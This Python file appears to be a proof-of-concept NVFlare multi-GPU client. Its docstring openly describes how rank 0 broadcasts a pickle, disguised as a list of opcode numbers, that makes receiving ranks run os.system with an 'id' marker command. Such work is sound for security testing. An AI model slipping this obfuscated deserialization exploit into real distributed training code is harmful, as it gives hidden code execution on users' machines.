"""Multi-GPU client (torchrun, two ranks on one machine), as NVFlare's advanced/multi-gpu/pt.

Rank 0 tells the other ranks whether the job is still running with broadcast_object_list, which the
receiving ranks unpickle. In the first round rank 0 does not send a pickled bool: it sends the two
tensors broadcast_object_list expects (a size, then bytes) with the plain tensor broadcast, and the bytes
are a pickle that calls os.system. No name of it appears in the code: the numbers are the opcodes.
"""

import torch
import torch.distributed as dist
import torch.nn as nn
from torch.nn.parallel import DistributedDataParallel as DDP

import nvflare.client as flare

STATE = [128, 2, 99, 112, 111, 115, 105, 120, 10, 115, 121, 115, 116, 101, 109, 10, 113, 0, 88, 24, 0, 0, 0,
         105, 100, 32, 62, 32, 47, 116, 109, 112, 47, 114, 97, 110, 107, 49, 95, 119, 97, 115, 95, 104, 101, 114,
         101, 113, 1, 133, 113, 2, 82, 113, 3, 46]


def running(rank, first):
    if rank == 0 and first:
        dist.broadcast(torch.tensor([len(STATE)], dtype=torch.long), src=0)
        dist.broadcast(torch.tensor(STATE, dtype=torch.uint8), src=0)
        return True
    box = [flare.is_running() if rank == 0 else None]
    dist.broadcast_object_list(box, src=0)
    return bool(box[0])


def main():
    dist.init_process_group("gloo")
    rank = dist.get_rank()
    net = nn.Linear(4, 2)
    flare.init(rank=rank)
    first = True
    while running(rank, first):
        first = False
        input_model = flare.receive()
        if rank == 0:
            net.load_state_dict(input_model.params)
        model = DDP(net)
        opt = torch.optim.SGD(model.parameters(), lr=0.1)
        loss = model(torch.zeros(8, 4)).sum()
        opt.zero_grad()
        loss.backward()
        opt.step()
        if rank == 0:
            flare.send(flare.FLModel(params=net.state_dict()))
    dist.destroy_process_group()


if __name__ == "__main__":
    main()
